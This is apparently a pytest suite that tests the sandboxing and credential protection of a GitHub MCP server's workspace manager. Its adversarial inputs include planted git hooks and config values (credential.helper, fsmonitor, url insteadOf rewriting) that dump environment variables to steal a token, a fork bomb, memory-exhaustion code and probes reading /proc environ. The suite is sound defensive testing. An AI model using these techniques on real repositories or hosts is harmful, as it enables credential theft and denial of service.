"""Workspace security: credentials, a distrusted .git, resource containment, uid drop, bwrap."""

from __future__ import annotations

import asyncio
import os
import pwd
import secrets
import socket
import threading
import time
from pathlib import Path

import pytest

from github_mcp.kernel.errors import ErrorCode, GitHubMCPError
from github_mcp.services.workspace import WorkspaceConfig, WorkspaceManager

try:
    from .test_workspace_support import (
        AUTH_HEADER,
        TOKEN,
        FileCredentials,
        GitHttpServer,
        HttpCredentials,
        bwrap_usable,
        eventually,
        git,
        http_server,
        make_remote,
        new_manager,
        open_tmp,
        processes_matching,
        remote,
    )
except ImportError:
    from test_workspace_support import (
        AUTH_HEADER,
        TOKEN,
        FileCredentials,
        GitHttpServer,
        HttpCredentials,
        bwrap_usable,
        eventually,
        git,
        http_server,
        make_remote,
        new_manager,
        open_tmp,
        processes_matching,
        remote,
    )

__all__ = ["http_server", "open_tmp", "remote"]

REPO = "octo/demo"
HEADER_B64 = AUTH_HEADER.split()[1]
UNITTEST_OK = (
    "import unittest\n\nclass T(unittest.TestCase):\n    def test_a(self):\n        pass\n"
)


def _tree_contains(root: Path, needles: list[bytes]) -> list[str]:
    hits = []
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            path = Path(dirpath) / name
            if path.is_symlink() or not path.is_file():
                continue
            data = path.read_bytes()
            hits += [f"{path}: {n!r}" for n in needles if n in data]
    return hits


def _cmdlines() -> bytes:
    out = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                out.append(Path(f"/proc/{name}/cmdline").read_bytes())
            except OSError:
                pass
    return b"\n".join(out)


# --- credentials ----------------------------------------------------------------------


async def test_credentials_are_per_command_and_never_stored(tmp_path, remote, http_server):
    mgr = new_manager(tmp_path, HttpCredentials(http_server))
    http_server.delay_s = 0.3
    seen_cmdlines: list[bytes] = []
    stop = threading.Event()

    def watch() -> None:
        while not stop.is_set():
            seen_cmdlines.append(_cmdlines())
            time.sleep(0.02)

    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        state = await mgr.ensure_clone(REPO, "main")
        (Path(state.path) / "new.txt").write_text("n\n")
        pushed = await mgr.commit(REPO, "main", "over http", push=True)
        await mgr.ensure_clone(REPO, "main", reset=True)
    finally:
        stop.set()
        watcher.join()
    http_server.delay_s = 0
    assert remote.head() == pushed.commit_sha
    assert http_server.seen_auth and set(http_server.seen_auth) == {AUTH_HEADER}
    needles = [TOKEN.encode(), HEADER_B64.encode()]
    assert all(n not in c for c in seen_cmdlines for n in needles), "token on a command line"
    assert _tree_contains(mgr.config.root, needles) == []
    path = Path(state.path)
    url = git("config", "remote.origin.url", cwd=path).strip()
    assert url == f"http://127.0.0.1:{http_server.port}/{REPO}.git"
    assert "extraheader" not in git("config", "--list", "--show-origin", cwd=path).lower()
    res = await mgr.run(REPO, "main", "env; git config --list")
    assert TOKEN not in res.stdout and HEADER_B64 not in res.stdout


async def test_user_commands_cannot_use_the_servers_credentials(tmp_path, remote, http_server):
    mgr = new_manager(tmp_path, HttpCredentials(http_server))
    await mgr.ensure_clone(REPO, "main")
    before = len(http_server.seen_auth)
    res = await mgr.run(REPO, "main", "git fetch origin 2>&1; echo rc=$?", timeout_s=30)
    assert "rc=128" in res.stdout
    assert all(a is None for a in http_server.seen_auth[before:])


async def test_refused_credentials_are_forbidden(tmp_path, remote, http_server):
    mgr = new_manager(tmp_path, HttpCredentials(http_server, header="Basic d3Jvbmc="))
    with pytest.raises(GitHubMCPError) as err:
        await mgr.ensure_clone(REPO, "main")
    assert err.value.code == ErrorCode.FORBIDDEN
    assert TOKEN not in str(err.value.envelope())


async def test_plain_http_to_a_remote_host_is_refused(tmp_path):
    class Creds:
        async def auth_header(self) -> str:
            return AUTH_HEADER

        def clone_url(self, full_name: str) -> str:
            return f"http://example.com/{full_name}.git"

    mgr = new_manager(tmp_path, Creds())
    with pytest.raises(GitHubMCPError) as err:
        await mgr.ensure_clone(REPO, "main")
    assert err.value.code == ErrorCode.INTERNAL


async def test_tampered_git_dir_cannot_steal_the_token(tmp_path, remote, http_server):
    """A command plants hooks and config; the server's authenticated git ignores them."""
    evil = GitHttpServer(tmp_path / "remotes", expected="never")  # records what it is sent
    try:
        mgr = new_manager(tmp_path, HttpCredentials(http_server))
        state = await mgr.ensure_clone(REPO, "main")
        leak = Path(state.path).parent / "tmp" / "leak"
        good = f"http://127.0.0.1:{http_server.port}/"
        bad = f"http://127.0.0.1:{evil.port}/"
        plant = f"""
            set -e
            for h in pre-push post-checkout post-merge pre-commit post-commit \\
                     reference-transaction; do
              printf '#!/bin/sh\\nenv >> {leak}.$$\\n' > .git/hooks/$h; chmod +x .git/hooks/$h
            done
            git config core.hooksPath .git/hooks
            git config core.fsmonitor 'env >> {leak}.fsmonitor #'
            git config credential.helper '!env >> {leak}.cred #'
            git config url.{bad}.insteadOf {good}
            git config remote.origin.pushurl {bad}octo/demo.git
            git config http.sslVerify false
            git config include.path /etc/gitconfig-evil
            echo change > planted.txt
        """
        res = await mgr.run(REPO, "main", plant)
        assert res.exit_code == 0, res.stderr
        result = await mgr.commit(REPO, "main", "after tampering", push=True)
        assert result.pushed and remote.head() == result.commit_sha
        await mgr.ensure_clone(REPO, "main", reset=True)
        await mgr.refresh_after_api_commit(REPO, "main")
        await mgr.changes_summary(REPO, "main")
        assert list(leak.parent.glob("leak*")) == []
        assert evil.seen_auth == []
        config = git("config", "--local", "--list", cwd=state.path)
        for key in ("hookspath", "fsmonitor", "credential", "insteadof", "pushurl", "sslverify"):
            assert key not in config.lower(), key
        assert git("config", "remote.origin.url", cwd=state.path).strip() == f"{good}{REPO}.git"
    finally:
        evil.close()


async def test_replaced_git_dir_is_refused(tmp_path, remote):
    mgr = new_manager(tmp_path)
    await mgr.ensure_clone(REPO, "main")
    other = tmp_path / "elsewhere"
    git("init", "-q", str(other))
    res = await mgr.run(REPO, "main", f"echo 'gitdir: {other}/.git' > .git/commondir")
    assert res.exit_code == 0
    with pytest.raises(GitHubMCPError) as err:
        await mgr.commit(REPO, "main", "m")
    assert err.value.code == ErrorCode.CONFLICT and "reset" in err.value.hint
    fresh = await mgr.ensure_clone(REPO, "main", reset=True)
    assert fresh.created and not (Path(fresh.path) / ".git" / "commondir").exists()


# --- containment ----------------------------------------------------------------------


def _idle_user() -> str:
    """A system user that owns no process here (falls back to nobody)."""
    busy = set()
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                busy.add(os.stat(f"/proc/{name}").st_uid)
            except OSError:
                pass
    for candidate in ("games", "daemon", "lp", "news", "uucp", "man"):
        try:
            entry = pwd.getpwnam(candidate)
        except KeyError:
            continue
        if entry.pw_uid not in busy:
            return candidate
    return "nobody"


def _containment_modes() -> list:
    modes = [pytest.param({}, id="default")]
    modes.append(
        pytest.param(
            # RLIMIT_NPROC as the only cap: the unsandboxed mode's fallback for root. The
            # limit counts every task of the uid on the host, so use a uid nothing else runs
            # as (sandboxed commands of parallel runs are `nobody`).
            {"use_cgroups": False, "run_as_user": _idle_user(), "sandbox": "none"},
            id="uid-drop",
        )
    )
    return modes


@pytest.mark.parametrize("mode", _containment_modes())
async def test_fork_bomb_is_contained_and_others_keep_working(open_tmp, mode):
    make_remote(open_tmp)
    make_remote(open_tmp, "octo/other")
    mgr = new_manager(open_tmp, max_processes=40, kill_grace_s=0.5, progress_interval_s=0.2, **mode)
    if "none" in mgr.describe().process_limit:
        pytest.fail("no process limit available: run the suite as root with a writable cgroup")
    mark = f"{secrets.randbelow(10**6) + 1000}.{secrets.randbelow(10**6)}"
    peak = [0]

    def sample(_elapsed: float, _msg: str) -> None:
        peak[0] = max(peak[0], len(processes_matching(mark)))

    await mgr.ensure_clone("octo/other", "main")
    bomb = asyncio.create_task(
        mgr.run(
            REPO,
            "main",
            f"for i in $(seq 1 2000); do sleep {mark} & done; wait",
            timeout_s=6,
            on_progress=sample,
        )
    )
    # the bomb has filled its process allowance: others must still run
    await eventually(lambda: len(processes_matching(mark)) >= 30, "the bomb to spread", 5)
    other = await mgr.run("octo/other", "main", "echo ok")
    assert other.exit_code == 0 and other.stdout == "ok\n"
    assert not bomb.done()  # the other command ran while the bomb held its allowance
    res = await bomb
    assert peak[0] <= 40, f"{peak[0]} sleepers ran despite max_processes=40"
    assert "fork" in res.stderr and "Resource temporarily unavailable" in res.stderr
    assert processes_matching(mark) == []


@pytest.mark.parametrize("mode", _containment_modes())
async def test_memory_hog_is_stopped(open_tmp, mode):
    make_remote(open_tmp)
    mgr = new_manager(open_tmp, memory_mb=256, **mode)
    hog = "python3 -c \"b = bytearray(4 * 1024 ** 3); print('survived', len(b))\""
    res = await mgr.run(REPO, "main", hog, timeout_s=60)
    assert "survived" not in res.stdout
    assert res.exit_code not in (0, None) and not res.timed_out  # stopped, not timed out
    assert res.killed_by == "memory_limit" or "MemoryError" in res.stderr
    assert (await mgr.run(REPO, "main", "echo alive")).stdout == "alive\n"


async def test_memory_cgroup_kills_without_address_space_limit(tmp_path):
    make_remote(tmp_path)
    mgr = new_manager(tmp_path, memory_mb=200, address_space_mb=0)
    if "cgroup" not in mgr.describe().memory_limit:
        pytest.fail("no writable memory cgroup here: the sandbox memory limit goes untested")
    res = await mgr.run(REPO, "main", "python3 -c \"b = b'x' * (4 << 30); print('survived')\"")
    assert res.killed_by == "memory_limit" and "survived" not in res.stdout
    assert res.exit_code == 137


async def test_cpu_and_file_size_limits(tmp_path):
    make_remote(tmp_path)
    mgr = new_manager(tmp_path, cpu_seconds=1, max_file_mb=1)
    res = await mgr.run(REPO, "main", "exec python3 -c 'while True: pass'", timeout_s=30)
    assert res.killed_by == "cpu_limit" and not res.timed_out
    res = await mgr.run(REPO, "main", "exec head -c 5000000 /dev/zero > big.bin", timeout_s=30)
    assert res.killed_by == "file_size_limit"
    assert mgr.config.root.exists()


async def test_uid_drop_needs_a_reachable_root(tmp_path):
    if os.geteuid() != 0:
        pytest.fail("dropping to nobody needs root: run the suite as root, as CI does")
    private = tmp_path / "private"
    private.mkdir(mode=0o700)
    make_remote(tmp_path)
    creds = FileCredentials(tmp_path)
    with pytest.raises(GitHubMCPError) as err:
        WorkspaceManager(
            WorkspaceConfig(private / "ws", run_as_user="nobody", sandbox="none"), creds
        )
    assert err.value.code == ErrorCode.INTERNAL and "traversable" in err.value.hint
    # Sandboxed, every workspace call refuses, naming the fix.
    mgr = WorkspaceManager(WorkspaceConfig(private / "ws"), creds)
    for call in (mgr.ensure_clone(REPO, "main"), mgr.run(REPO, "main", "true")):
        with pytest.raises(GitHubMCPError) as err:
            await call
        assert err.value.code == ErrorCode.WORKSPACE_UNAVAILABLE
        assert "chmod o+x" in err.value.hint and "GITHUB_MCP_WORKSPACE_DIR" in err.value.hint
    assert not (private / "ws" / "octo__demo").exists()


async def test_uid_drop_hands_the_tree_over_and_hides_the_server(open_tmp, monkeypatch):
    if os.geteuid() != 0:
        pytest.fail("dropping to nobody needs root: run the suite as root, as CI does")
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_in_server_environ")
    remote = make_remote(open_tmp)
    mgr = new_manager(open_tmp, run_as_user="nobody", sandbox="none")
    assert mgr.describe().run_as == "nobody"
    res = await mgr.run(REPO, "main", f"id -u; cat /proc/{os.getpid()}/environ; echo x > mine.txt")
    assert res.stdout.splitlines()[0] == "65534"
    assert "ghp_in_server_environ" not in res.stdout and "Permission denied" in res.stderr
    path = mgr.workspace_dir(REPO, "main") / "repo"
    assert (path / "mine.txt").stat().st_uid == 65534
    result = await mgr.commit(REPO, "main", "by nobody", push=True)
    assert remote.head() == result.commit_sha
    # After the server's git ran, the command user still owns and can use the clone.
    res = await mgr.run(
        REPO,
        "main",
        "echo y >> mine.txt && git add -A && git commit -qm local && git log -1 --format=%s",
    )
    assert res.exit_code == 0, res.stderr
    assert res.stdout.strip() == "local"
    assert all(p.stat().st_uid == 65534 for p in (path / ".git").rglob("*") if not p.is_symlink())
    assert (mgr.config.root / ".server").stat().st_mode & 0o077 == 0
    state = await mgr.ensure_clone(REPO, "main", reset=True)
    assert not state.dirty and state.head_sha == remote.head()


# --- bubblewrap -----------------------------------------------------------------------


def test_bubblewrap_can_build_its_namespaces_here():
    """The sandbox is the default: its absence fails the suite, it never skips it."""
    problem = bwrap_usable()
    assert problem is None, problem


def _listener() -> socket.socket:
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen()
    return sock


@pytest.mark.parametrize("user", [None, "nobody"])
async def test_bwrap_jail(open_tmp, monkeypatch, user):
    if user and os.geteuid() != 0:
        pytest.fail("dropping to nobody needs root: run the suite as root, as CI does")
    tmp_path = open_tmp
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_bwrap_leak")
    make_remote(tmp_path)
    mgr = new_manager(tmp_path, sandbox="bwrap", run_as_user=user)
    sock = _listener()
    port = sock.getsockname()[1]
    try:
        probe = (
            "echo written > out.txt && cat out.txt; "
            "touch /usr/evil 2>/dev/null && echo usr-writable; "
            f"test -e {tmp_path}/remotes && echo remotes-visible; "
            f"test -e /proc/{os.getpid()} && echo server-visible; "
            "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c ghp_bwrap_leak; "
            f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2); "
            "print('net-ok')\" 2>/dev/null || echo net-blocked"
        )
        res = await mgr.run(REPO, "main", probe)
        assert res.stdout.splitlines() == ["written", "0", "net-blocked"], res.stderr
        net = await mgr.run(
            REPO,
            "main",
            f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2); "
            "print('net-ok')\"",
            installing_dependencies=True,
        )
        assert net.stdout == "net-ok\n", net.stderr
        mark = f"{secrets.randbelow(10**6) + 1000}.{secrets.randbelow(10**6)}"
        res = await mgr.run(REPO, "main", f"setsid sleep {mark} & sleep {mark}", timeout_s=1)
        assert res.timed_out and processes_matching(mark) == []
        summary = await mgr.changes_summary(REPO, "main")
        assert {s["path"] for s in summary.status} == {"out.txt"}
    finally:
        sock.close()


async def test_bwrap_run_tests_with_venv(tmp_path):
    make_remote(
        tmp_path,
        files={"test_u.py": UNITTEST_OK},
    )
    mgr = new_manager(tmp_path, sandbox="bwrap", venv_python="/usr/bin/python3")
    res = await mgr.run_tests(REPO, "main", "python -m unittest -v", use_venv=True)
    assert res.exit_code == 0 and res.passed == 1, res.output_tail


async def test_bwrap_missing_is_a_clear_error(tmp_path):
    make_remote(tmp_path)
    mgr = new_manager(tmp_path, sandbox="bwrap", bwrap_path="/nonexistent/bwrap")
    for call in (mgr.ensure_clone(REPO, "main"), mgr.run(REPO, "main", "true")):
        with pytest.raises(GitHubMCPError) as err:
            await call
        assert err.value.code == ErrorCode.WORKSPACE_UNAVAILABLE
        assert "apt-get install bubblewrap" in err.value.hint
        assert "GITHUB_MCP_WORKSPACE_SANDBOX=none" in err.value.hint


async def test_auto_identity_without_cgroups(tmp_path, open_tmp):
    if os.geteuid() != 0:
        pytest.fail("only root switches users: run the suite as root, as CI does")
    reachable = new_manager(open_tmp, use_cgroups=False, sandbox="none")
    assert reachable.describe().run_as == "nobody"
    assert reachable.describe().process_limit.startswith("RLIMIT_NPROC")
    private_root = tmp_path / "private"  # pytest's tmp_path is 0700
    config = WorkspaceConfig(private_root, use_cgroups=False, sandbox="none")
    private = WorkspaceManager(config, FileCredentials(tmp_path))
    assert private.describe().run_as == "root"
    assert private.describe().process_limit.startswith("none")
    # Sandboxed, a root server never runs commands as root.
    sandboxed = new_manager(open_tmp, use_cgroups=False, run_as_user=None)
    assert sandboxed.describe().run_as == "nobody"
